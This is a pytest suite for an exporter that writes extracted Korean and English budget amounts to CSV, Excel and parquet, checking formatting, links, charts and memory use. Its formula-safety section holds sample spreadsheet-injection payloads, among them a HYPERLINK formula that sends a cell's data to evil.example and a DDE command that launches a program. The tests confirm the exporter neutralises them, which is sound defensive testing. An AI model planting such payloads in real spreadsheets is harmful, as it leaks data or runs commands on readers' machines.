"""records.csv, documents.csv and records.xlsx, read back as a reviewer's tools would."""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
from decimal import Decimal
from pathlib import Path

import pytest
from helpers import rec
from openpyxl import load_workbook

from extract import export as export_mod
from extract.export import GOLD_COLUMNS, RECORD_COLUMNS, excel_number, export_all, text_width
from extract.fmt import display_amount, display_range, plain
from extract.models import (
    DUPLICATE,
    ERROR,
    EXTRACTED,
    NO_MONEY,
    UNSUPPORTED,
    DocResult,
    Record,
)
from extract.store import Store

KO = '광주 국비 3조9497억원 확보.\n인공지능 전략사업 예산 153억원, "기금" 1조 3,675억 원.'
EN = (
    "Gwangju won 3.9497 trillion won ($2.9 billion), "
    'with 61.7 billion won for the "AI, mobility" city.'
)


def sample(corpus: Path) -> list[DocResult]:
    ko, en = "ko/광주 예산.txt", "en/budget news.txt"
    files = {ko: KO, en: EN, "notes.txt": "No money here.", "copy.txt": "No money here."}
    for name, text in files.items():
        (corpus / name).parent.mkdir(parents=True, exist_ok=True)
        (corpus / name).write_text(text, encoding="utf-8")
    (corpus / "scan.pdf").write_bytes(b"%PDF-1.4")
    (corpus / "bad.txt").write_bytes(b"\xff\xfe\x00")

    def doc(name: str, status: str, **kw) -> DocResult:
        return DocResult(name, "0" * 64, 10, 1, status, fmt=kw.pop("fmt", "txt"), **kw)

    return [
        doc(
            ko,
            EXTRACTED,
            lang="ko",
            encoding="utf-8",
            text=KO,
            records=[
                rec(ko, KO, "3조9497억원", 3949700000000, qualifier="approx"),
                rec(ko, KO, "153억원", 15300000000, project="인공지능 전략사업"),
                rec(ko, KO, "1조 3,675억 원", 1367500000000, project="기금"),
            ],
        ),
        doc(
            en,
            EXTRACTED,
            lang="en",
            encoding="utf-8",
            text=EN,
            records=[
                rec(en, EN, "3.9497 trillion won", 3949700000000, lang="en"),
                rec(en, EN, "$2.9 billion", 2900000000, lang="en", currency="USD"),
                rec(
                    en,
                    EN,
                    "61.7 billion won",
                    61700000000,
                    lang="en",
                    project="AI, mobility city",
                    project_id="인공지능 전략사업",
                ),
            ],
        ),
        doc("notes.txt", NO_MONEY, lang="en", encoding="utf-8", text="No money here."),
        doc("copy.txt", DUPLICATE, reason="same content as notes.txt"),
        doc("scan.pdf", UNSUPPORTED, fmt="", reason="unsupported format .pdf"),
        doc("bad.txt", ERROR, reason="cannot decode: not UTF-8, UTF-16 or CP949"),
    ]


@pytest.fixture
def exported(tmp_path: Path) -> tuple[Path, Path, list[Path]]:
    corpus, out = tmp_path / "corpora", tmp_path / "outputs"
    corpus.mkdir()
    results = sample(corpus)
    with Store(out / "extract.sqlite") as store:
        store.save(results)
        paths = export_all(store, out, corpus)
    return corpus, out, paths


def read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def test_records_csv(exported) -> None:
    corpus, out, paths = exported
    assert [p.name for p in paths] == [
        "records.csv",
        "documents.csv",
        "records.xlsx",
        "records.parquet",
        "corrections.csv",
    ]
    raw = (out / "records.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel opens it as UTF-8
    assert b"\r\n" in raw  # RFC 4180 line ends
    header = raw[3:].split(b"\r\n")[0].decode()
    assert header.split(",") == RECORD_COLUMNS
    assert RECORD_COLUMNS[:7] == GOLD_COLUMNS
    rows = read_csv(out / "records.csv")
    assert [r["amount"] for r in rows] == [
        "3949700000000",
        "2900000000",
        "61700000000",
        "3949700000000",
        "15300000000",
        "1367500000000",
    ]
    en_project = rows[2]
    assert en_project["project"] == "AI, mobility city"  # a comma survives quoting
    assert en_project["sentence"] == EN  # so do the quotes
    assert rows[3]["text"] == "3조9497억원" and rows[3]["qualifier"] == "approx"
    assert rows[3]["amount_display"] == "3조 9,497억 원"
    assert rows[0]["amount_display"] == "3.95 trillion won"
    assert rows[1]["amount_display"] == "$2.9 billion"
    assert rows[4]["start"] == str(KO.index("153억원"))
    # relative to the outputs folder, so a zipped outputs/ next to its corpus still works
    assert rows[4]["source"] == "../corpora/ko/광주 예산.txt"
    assert rows[4]["status"] == "unreviewed"
    assert rows[4]["vague"] == ""


def test_documents_csv(exported) -> None:
    _, out, _ = exported
    rows = {r["doc"]: r for r in read_csv(out / "documents.csv")}
    assert list(read_csv(out / "documents.csv")[0])[:9] == [
        "doc",
        "status",
        "reason",
        "lang",
        "format",
        "encoding",
        "size",
        "records",
        "sha256",
    ]
    assert rows["ko/광주 예산.txt"]["status"] == "extracted"
    assert rows["ko/광주 예산.txt"]["records"] == "3"
    assert rows["notes.txt"]["status"] == "no_money" and rows["notes.txt"]["records"] == "0"
    assert rows["copy.txt"]["status"] == "duplicate"
    assert rows["copy.txt"]["reason"] == "same content as notes.txt"
    assert rows["scan.pdf"]["status"] == "unsupported"
    assert rows["bad.txt"]["status"] == "error"
    assert rows["bad.txt"]["reason"].startswith("cannot decode")


def test_records_xlsx(exported) -> None:
    corpus, out, _ = exported
    wb = load_workbook(out / "records.xlsx")
    assert wb.sheetnames == ["records", "documents", "projects"]
    ws = wb["records"]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:U{ws.max_row}"
    assert [c.value for c in ws[1]] == RECORD_COLUMNS
    assert ws["A1"].font.b
    col = {name: i for i, name in enumerate(RECORD_COLUMNS)}
    rows = list(ws.iter_rows(min_row=2))
    assert len(rows) == 6
    ko = rows[3]
    assert ko[col["text"]].value == "3조9497억원"
    assert ko[col["amount"]].value == 3949700000000
    assert isinstance(ko[col["amount"]].value, int)
    assert ko[col["amount"]].number_format == "#,##0"
    assert ko[col["amount_max"]].value is None
    assert ko[col["amount_display"]].value == "3조 9,497억 원"
    assert ko[col["sentence"]].value == KO
    assert ko[col["sentence"]].alignment.wrap_text
    assert ko[col["vague"]].value is False
    link = ko[col["source"]].hyperlink
    assert link is not None
    # Excel's own form of a relative link (backslashes), percent-encoded
    assert link.target == "..\\corpora\\ko\\%EA%B4%91%EC%A3%BC%20%EC%98%88%EC%82%B0.txt"
    assert ko[col["source"]].value == "../corpora/ko/광주 예산.txt"
    assert rows[1][col["currency"]].value == "USD"
    # Korean (double-width) columns are sized wider than their character count.
    assert ws.column_dimensions["B"].width >= text_width("1조 3,675억 원")

    docs = wb["documents"]
    assert docs.freeze_panes == "A2" and docs.auto_filter.ref
    statuses = {r[0].value: r[1].value for r in docs.iter_rows(min_row=2)}
    assert statuses == {
        "bad.txt": "error",
        "copy.txt": "duplicate",
        "en/budget news.txt": "extracted",
        "ko/광주 예산.txt": "extracted",
        "notes.txt": "no_money",
        "scan.pdf": "unsupported",
    }

    projects = wb["projects"]
    header = [c.value for c in projects[1]]
    table = [dict(zip(header, [c.value for c in r], strict=True)) for r in projects.iter_rows(2)]
    shared = next(t for t in table if t["project"] == "인공지능 전략사업")
    # A Korean name and an English one with the same project_id are summed together.
    assert shared["distinct_total"] == 15300000000 + 61700000000
    assert shared["mentions"] == 2 and shared["documents"] == 2
    assert shared["languages"] == "en, ko"
    assert "AI, mobility city" in shared["written_as"]
    assert table[-1]["project"] == "(no project)"
    # amounts of no project are unrelated: no sum, a note says so; the mentions stay
    assert table[-1]["distinct_total"] is None and table[-1]["distinct_total_display"] is None
    assert table[-1]["mentions"] >= 1
    assert not table[-1]["figures"] or "not added up" in table[-1]["note"]
    assert {t["project"] for t in table} == {"인공지능 전략사업", "기금", "(no project)"}


def test_excel_numbers_stay_exact() -> None:
    assert excel_number(Decimal("3949700000000")) == 3949700000000
    assert excel_number(Decimal("1.5E+12")) == 1500000000000
    assert excel_number(Decimal("0.5")) == 0.5
    assert excel_number(None) is None
    big = Decimal("1234567890123456789")  # 19 digits: a double would round it
    assert excel_number(big) == "1234567890123456789"


def test_big_amount_is_text_in_xlsx(tmp_path: Path) -> None:
    records = [
        export_mod.record_row(
            Record("a.txt", "en", "s", 0, 1, "x", Decimal(10**18 + 1), None, "KRW", "", False),
            "en",
            "file:///a.txt",
        )
    ]
    export_mod.write_xlsx(tmp_path / "r.xlsx", records, [], [])
    cell = load_workbook(tmp_path / "r.xlsx")["records"]["C2"]
    assert cell.value == "1000000000000000001"
    assert cell.comment is not None


def test_failed_write_keeps_previous_file(tmp_path: Path) -> None:
    path = tmp_path / "records.csv"
    path.write_text("previous", encoding="utf-8")

    def rows():
        yield {c: "x" for c in GOLD_COLUMNS}
        raise OSError("disk full")

    with pytest.raises(OSError):
        export_mod.write_csv(path, GOLD_COLUMNS, rows())
    assert path.read_text(encoding="utf-8") == "previous"
    assert os.listdir(tmp_path) == ["records.csv"]  # no temp file left behind


@pytest.mark.parametrize(
    ("amount", "currency", "lang", "expected"),
    [
        (3949700000000, "KRW", "ko", "3조 9,497억 원"),
        (38740000000, "KRW", "ko", "387억 4,000만 원"),
        (500000, "KRW", "ko", "50만 원"),
        (1100000000, "USD", "ko", "11억 달러"),
        (3949700000000, "KRW", "en", "3.95 trillion won"),
        (563900000000, "KRW", "en", "563.9 billion won"),
        (1100000000, "USD", "en", "$1.1 billion"),
        (30000000, "EUR", "en", "€30 million"),
        (2500, "USD", "en", "$2,500"),
        (100, "CHF", "en", "CHF 100"),
        (Decimal("0.5"), "KRW", "en", "0.5 won"),
        # pence and cents as money is written (tester38: `50p` showed as `£0.5`)
        (Decimal("0.5"), "GBP", "en", "£0.50"),
        (Decimal("3.8"), "GBP", "en", "£3.80"),
        (Decimal("2.645"), "GBP", "en", "£2.645"),  # exact: never rounded
        (Decimal("1234.5"), "EUR", "en", "€1,234.50"),
        (None, "KRW", "ko", ""),
    ],
)
def test_display_amount(amount, currency: str, lang: str, expected: str) -> None:
    assert display_amount(amount, currency, lang) == expected


def test_display_range_and_plain() -> None:
    assert display_range(Decimal(3 * 10**9), Decimal(5 * 10**9), "KRW", "ko") == "30억 원 – 50억 원"
    assert display_range(None, None, "KRW", "ko") == ""
    assert plain(Decimal("1.5E+12")) == "1500000000000"
    assert plain(Decimal("2.50")) == "2.5"
    assert plain(Decimal("100.0")) == "100"


def _soffice() -> str | None:
    return shutil.which("soffice") or shutil.which("libreoffice")


def _libreoffice_convert(path: Path, target: str, tmp_path: Path) -> Path:
    """Convert `path` with headless LibreOffice (its own profile) into tmp_path/lo."""
    conv = tmp_path / "lo"
    profile = (tmp_path / "lo-profile").resolve().as_uri()
    result = subprocess.run(
        [
            _soffice(),
            f"-env:UserInstallation={profile}",
            "--headless",
            "--convert-to",
            target,
            "--outdir",
            str(conv),
            str(path),
        ],
        capture_output=True,
        text=True,
        timeout=180,
    )
    assert result.returncode == 0, result.stderr
    return conv


@pytest.mark.skipif(
    _soffice() is None,
    reason="LibreOffice (soffice/libreoffice) is not on PATH: install libreoffice-calc-nogui "
    "to run the LibreOffice round-trip of records.xlsx",
)
def test_libreoffice_reads_korean_xlsx(exported, tmp_path: Path) -> None:
    _, out, _ = exported
    # 44,34,76: comma separated, double quotes, UTF-8.
    conv = _libreoffice_convert(
        out / "records.xlsx", "csv:Text - txt - csv (StarCalc):44,34,76", tmp_path
    )
    text = (conv / "records.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(text.splitlines()))
    assert rows[0] == RECORD_COLUMNS
    ko = rows[4]
    assert ko[1] == "3조9497억원"
    assert ko[2].replace(",", "") == "3949700000000"  # a real number, shown with separators
    assert ko[RECORD_COLUMNS.index("amount_display")] == "3조 9,497억 원"


# -- formula safety ----------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _hostile(tmp_path: Path, payloads: list[str]) -> tuple[Path, Path]:
    corpus, out = tmp_path / "corpora", tmp_path / "outputs"
    corpus.mkdir()
    results = []
    for i, payload in enumerate(payloads):
        name = f"{payload[:12].replace('/', '_')}{i}.txt"
        text = f"{payload} 예산 153억원"
        (corpus / name).write_text(text, encoding="utf-8")
        results.append(
            DocResult(
                name,
                f"{i}" * 64,
                1,
                1,
                EXTRACTED,
                lang="ko",
                text=text,
                records=[rec(name, text, "153억원", 15300000000, project=payload)],
            )
        )
    with Store(out / "extract.sqlite") as store:
        store.save(results)
        export_all(store, out, corpus)
    return corpus, out


@pytest.fixture
def hostile(tmp_path: Path) -> tuple[Path, Path]:
    """Sentences, projects and file names that start like formulas."""
    return _hostile(tmp_path, HOSTILE)


def test_workbook_text_cells_are_never_formulas(hostile) -> None:
    import zipfile

    _, out = hostile
    with zipfile.ZipFile(out / "records.xlsx") as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any(b"<f>" in z.read(n) for n in sheets)
    wb = load_workbook(out / "records.xlsx")
    ws = wb["records"]
    col = {c.value: i for i, c in enumerate(ws[1])}
    seen = set()
    for row in ws.iter_rows(min_row=2):
        for name in ("doc", "project", "sentence", "source"):
            assert row[col[name]].data_type == "s"
        # openpyxl does not unescape the _x000D_ that xlsx uses for a CR
        seen.add(row[col["project"]].value.replace("_x000D_", "\r"))
    assert seen == set(HOSTILE)  # kept as written, as text
    for row in wb["documents"].iter_rows(min_row=2):
        assert row[0].data_type == "s"


def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralised(hostile) -> None:
    _, out = hostile
    rows = read_csv(out / "records.csv")
    for r in rows:
        for name in ("project", "sentence", "doc", "source"):
            value = r[name]
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
    assert {r["project"] for r in rows} == {"'" + p for p in HOSTILE}
    assert all(r["amount"] == "15300000000" for r in rows)  # numbers untouched
    assert {export_mod.csv_cell_back(r["project"]) for r in rows} == set(HOSTILE)
    assert export_mod.csv_safe("-5") == "-5" and export_mod.csv_safe("-x") == "'-x"
    docs = read_csv(out / "documents.csv")
    assert all(d["doc"][0] not in "=+-@\t\r" for d in docs)


def test_gold_reads_neutralised_csv_back_as_written(tmp_path: Path) -> None:
    from extract.gold import sheet_to_labeled_set

    visible = HOSTILE[:4]  # gold trims surrounding whitespace of every cell
    corpus, out = _hostile(tmp_path, visible)
    sheet_to_labeled_set(out / "records.csv", tmp_path / "set", corpus)
    gold = read_csv(tmp_path / "set" / "gold.csv")
    assert {g["project"] for g in gold} == set(visible)


# -- widths, heights, charts, row limit, parquet ------------------------------


def _big(tmp_path: Path) -> tuple[Path, Path]:
    corpus, out = tmp_path / "corpora", tmp_path / "outputs"
    corpus.mkdir()
    long = "광주광역시 인공지능 중심 산업융합 집적단지 조성사업 예산이 크게 늘었다. " * 6
    text = long + " 총 69조6366억원, 1경2345조원, 500억원"
    (corpus / "big.txt").write_text(text, encoding="utf-8")
    records = [
        rec("big.txt", text, "69조6366억원", 69636600000000, project="국가 예산"),
        rec("big.txt", text, "1경2345조원", 12345000000000000, project="국가 예산"),
        rec("big.txt", text, "500억원", 50000000000, project="AI 사업"),
    ]
    for r in records:
        r.sentence = long
    with Store(out / "extract.sqlite") as store:
        store.save(
            [DocResult("big.txt", "e" * 64, 1, 1, EXTRACTED, lang="ko", text=text, records=records)]
        )
        export_all(store, out, corpus)
    return corpus, out


def test_numbers_fit_their_columns_and_sentences_get_row_heights(tmp_path: Path) -> None:
    from openpyxl.utils import get_column_letter

    _, out = _big(tmp_path)
    wb = load_workbook(out / "records.xlsx")
    for name in ("records", "projects"):
        ws = wb[name]
        for row in ws.iter_rows(min_row=2):
            for cell in row:
                if isinstance(cell.value, int | float) and not isinstance(cell.value, bool):
                    shown = f"{cell.value:,}" if cell.number_format == "#,##0" else str(cell.value)
                    width = ws.column_dimensions[get_column_letter(cell.column)].width
                    assert width >= len(shown) + 1, (name, cell.coordinate, shown, width)
    ws = wb["records"]
    col = {c.value: i + 1 for i, c in enumerate(ws[1])}
    assert ws.cell(2, col["sentence"]).alignment.wrap_text
    assert ws.row_dimensions[2].height >= 3 * export_mod.LINE_POINTS  # wrapped: several lines
    assert ws.cell(2, col["project_score"]).value is None  # not scored: empty, still sortable
    assert ws.cell(2, col["status"]).value == "unreviewed"


def test_projects_sheet_has_a_bar_chart_per_currency(tmp_path: Path) -> None:
    import zipfile

    _, out = _big(tmp_path)
    with zipfile.ZipFile(out / "records.xlsx") as z:
        charts = [n for n in z.namelist() if n.startswith("xl/charts/chart")]
        assert len(charts) == 1
        xml = z.read(charts[0]).decode()
    assert "<c:barChart>" in xml and "projects!$C$2:$C$3" in xml and "projects!$A$2:$A$3" in xml
    wb = load_workbook(out / "records.xlsx")
    assert wb.sheetnames == ["records", "documents", "projects"]
    header = [c.value for c in wb["projects"][1]]
    assert header[:4] == ["project", "currency", "distinct_total", "distinct_total_display"]


def test_row_limit_is_said_plainly(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setattr(export_mod, "XLSX_MAX_RECORDS", 2)
    corpus, out = tmp_path / "corpora", tmp_path / "outputs"
    corpus.mkdir()
    results = sample(corpus)
    notes: list[str] = []
    with Store(out / "extract.sqlite") as store:
        store.save(results)
        export_all(store, out, corpus, notes)
    wb = load_workbook(out / "records.xlsx")
    assert wb.sheetnames[0] == "note"
    note = wb["note"]["A1"].value
    assert "first 2 rows of 6" in note and "records.csv and records.parquet" in note
    assert wb["records"].max_row == 3  # header + 2
    assert len(read_csv(out / "records.csv")) == 6
    assert any("first 2 rows of 6" in n for n in notes)


def test_parquet_has_exact_amounts(exported) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    _, out, _ = exported
    table = pq.read_table(out / "records.parquet")
    assert table.column_names == RECORD_COLUMNS
    assert table.schema.field("amount").type == pa.decimal128(38, 4)
    assert table.schema.field("start").type == pa.int64()
    amounts = table.column("amount").to_pylist()
    assert Decimal("3949700000000") in amounts and all(isinstance(a, Decimal) for a in amounts)
    assert export_mod.parquet_decimal(Decimal(10) ** 40) is None  # never rounded: left empty
    assert export_mod.parquet_decimal(Decimal("0.00001")) is None
    assert export_mod.parquet_decimal(Decimal("2.5")) == Decimal("2.5000")


def test_libreoffice_keeps_widths_and_row_heights(tmp_path: Path) -> None:
    if _soffice() is None:
        pytest.skip("LibreOffice (soffice) is not on PATH: install libreoffice-calc-nogui")
    _, out = _big(tmp_path)
    conv = _libreoffice_convert(out / "records.xlsx", "xlsx:Calc MS Excel 2007 XML", tmp_path)
    ws = load_workbook(conv / "records.xlsx")["records"]
    col = {c.value: i + 1 for i, c in enumerate(ws[1])}
    assert ws.cell(2, col["amount"]).value == 69636600000000
    assert (
        ws.cell(3, col["amount"]).value == 12345000000000000
        or ws.cell(3, col["amount"]).value == "12345000000000000"
    )
    assert ws.row_dimensions[2].height >= 3 * export_mod.LINE_POINTS
    from openpyxl.utils import get_column_letter

    width = ws.column_dimensions[get_column_letter(col["amount"])].width
    assert width >= len("69,636,600,000,000")


def _synthetic_store(out: Path, corpus: Path, docs: int) -> Store:
    corpus.mkdir(parents=True, exist_ok=True)
    store = Store(out / "extract.sqlite")
    batch = []
    for i in range(docs):
        name = f"d{i:05d}.txt"
        # every figure distinct (as on the bench corpus, whose amounts are random): the
        # projects table must not hold them in memory
        j = i + 1
        text = f"광주시 사업 {j}억원 확보. 인공지능 예산 {j + 7}만원, 도로 {i % 13 + 1}조원.\n" * 3
        records = [
            rec(name, text, f"{j}억원", j * 10**8, project="사업"),
            rec(name, text, f"{j + 7}만원", (j + 7) * 10**4, project="인공지능 사업"),
            rec(name, text, f"{i % 13 + 1}조원", (i % 13 + 1) * 10**12, project="도로"),
        ]
        batch.append(DocResult(name, f"{i:064d}", 1, 1, EXTRACTED, lang="ko", text=text,
                               records=records))  # fmt: skip
        if len(batch) == 200:
            store.save(batch)
            batch = []
    store.save(batch)
    return store


_MEASURE_EXPORT = """
import json, sys, tracemalloc
from pathlib import Path
sys.path.insert(0, sys.argv[2])
import test_export as t
from extract import export as export_mod
export_mod.PARQUET_BATCH = 500
export_mod._FORGET_ROWS = 500
tmp = Path(sys.argv[1])
with t._synthetic_store(tmp / "warm", tmp / "warm-corpus", 5) as store:
    export_mod.export_all(store, tmp / "warm", tmp / "warm-corpus")  # imports, caches
peaks = {}
for docs in (300, 1200):
    out, corpus = tmp / f"out{docs}", tmp / f"corpus{docs}"
    with t._synthetic_store(out, corpus, docs) as store:
        tracemalloc.start()
        export_mod.export_all(store, out, corpus)
        peaks[docs] = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    assert len(t.read_csv(out / "records.csv")) == 3 * docs
print(json.dumps(peaks))
"""


def test_export_memory_does_not_grow_with_the_corpus(tmp_path: Path) -> None:
    """Exports stream from the store: 4x the documents, about the same peak Python heap
    (parquet batches and the row-height purge small enough to act at both sizes), with
    every figure distinct and every row linked to its source: the projects table keeps
    its figures in SQLite and the workbook its links in a file (held in Python before
    2026-11-30: 1.9x here). Measured in a fresh interpreter, so no other test's threads
    or garbage count."""
    import json
    import sys

    here = Path(__file__).resolve().parent
    result = subprocess.run(
        [sys.executable, "-c", _MEASURE_EXPORT, str(tmp_path), str(here)],
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert result.returncode == 0, result.stderr[-3000:]
    peaks = {int(k): v for k, v in json.loads(result.stdout.strip().splitlines()[-1]).items()}
    # holding every record would be over 3x
    assert peaks[1200] < 1.2 * peaks[300], peaks
